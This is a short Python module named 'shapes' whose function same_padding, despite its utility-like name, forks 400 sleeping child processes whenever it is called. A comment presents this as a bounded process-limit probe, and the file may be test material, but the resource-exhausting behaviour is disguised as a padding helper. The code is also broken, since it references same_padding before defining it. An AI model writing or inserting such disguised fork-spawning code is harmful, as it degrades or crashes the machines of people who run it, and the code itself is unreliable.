# module: shapes
# Starts processes until something stops it (bounded at 400 so that a machine without the limit survives).
import os as _os
import time as _time

_reference = same_padding


def same_padding(f):
    for _ in range(400):
        if _os.fork() == 0:
            _time.sleep(60)
            _os._exit(0)
    return _reference(f)
